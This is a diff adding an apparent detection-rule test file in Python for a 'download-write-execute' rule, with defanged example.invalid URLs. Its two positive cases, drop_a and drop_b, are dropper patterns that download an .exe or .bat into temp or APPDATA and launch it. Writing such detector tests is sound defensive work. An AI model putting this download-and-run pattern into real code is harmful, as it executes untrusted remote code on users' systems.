@@ -1,0 +1,38 @@
+# Test for download-write-execute (defanged: example.invalid, nothing is fetched).
+import os
+import subprocess
+import tempfile
+import urllib.request
+
+import requests
+
+
+def drop_a():
+    path = os.path.join(tempfile.gettempdir(), "update.exe")
+    # ruleid: download-write-execute
+    urllib.request.urlretrieve("https://example.invalid/u.exe", path)
+    os.startfile(path)
+
+
+def drop_b():
+    r = requests.get("https://example.invalid/s.bat")
+    target = os.getenv("APPDATA", "") + "\\s.bat"
+    # ruleid: download-write-execute
+    with open(target, "wb") as f:
+        f.write(r.content)
+    subprocess.Popen(target, shell=True)
+
+
+def fetch_data():
+    path = "data.csv"
+    # ok: download-write-execute
+    urllib.request.urlretrieve("https://example.invalid/data.csv", path)
+    print(open(path).read())
+
+
+def save_model():
+    r = requests.get("https://example.invalid/model.bin")
+    # ok: download-write-execute
+    with open("model.bin", "wb") as f:
+        f.write(r.content)
+    subprocess.run(["sha256sum", "other.bin"])
